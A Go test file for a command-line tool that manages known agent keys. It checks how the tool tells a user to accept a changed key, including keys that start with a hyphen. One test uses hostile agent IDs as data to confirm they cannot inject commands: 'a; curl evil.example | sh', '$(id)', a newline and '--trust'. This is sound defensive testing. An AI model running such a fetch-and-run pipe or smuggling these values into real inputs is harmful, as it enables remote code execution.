package cli

import (
	"os"
	"strings"
	"testing"

	"github.com/aaep-go/aaep/manifest"
)

// What is to be typed can be typed: a thumbprint may begin with a hyphen. SEC-006
func TestAcceptHyphen(t *testing.T) {
	t.Chdir(t.TempDir())
	was, is := strings.Repeat("A", 43), "-_"+strings.Repeat("A", 41)
	if err := os.WriteFile("known.json", []byte(`[{"agent_id":"planner","key":"`+was+`","since":"2026-01-02T03:04:05Z"}]`), 0o600); err != nil {
		t.Fatal(err)
	}
	says := howToAccept(&manifest.KeyChangedError{AgentID: "planner", Known: was, Presented: is, File: "known.json"})
	if want := " Letter by letter it is: hyphen underscore A A, A A A A, "; !strings.Contains(says, want) {
		t.Errorf("%q is not in %s", want, says)
	}
	_, command, _ := strings.Cut(says, "type: aaep ")
	if code, _, talk := called("", strings.Fields(command)...); code != exitOK || talk != "aaep: From now on planner is known by the key "+is+", and by no other.\n" {
		t.Errorf("%s: code %d, %s", command, code, talk)
	}
	if text, err := os.ReadFile("known.json"); err != nil || !strings.Contains(string(text), `"`+is+`"`) || strings.Contains(string(text), was) {
		t.Errorf("the file holds %s, %v", text, err)
	}
}

// What an agent calls itself cannot make a command of its own out of what a person is told to type.
func TestHowToAcceptIsHarmless(t *testing.T) {
	for _, c := range []struct{ file, id, want string }{
		{"keys/known-2.json", "urn:acme:planner@2", "keys/known-2.json urn:acme:planner@2"},
		{"my known.json", "planner", "FILE planner"},
		{"known.json", "a; curl evil.example | sh", "known.json AGENT_ID"},
		{"known.json", "$(id)", "known.json AGENT_ID"},
		{"known.json", "a\nb", "known.json AGENT_ID"},
		{"known.json", "--trust", "known.json AGENT_ID"},
		{"known.json", "", "known.json AGENT_ID"},
	} {
		key := strings.Repeat("k", 43)
		says := howToAccept(&manifest.KeyChangedError{AgentID: c.id, File: c.file, Presented: key})
		if _, got, _ := strings.Cut(says, "type: "); got != "aaep manifest accept "+c.want+" "+key {
			t.Errorf("%q: %s", c.id, got)
		}
	}
}
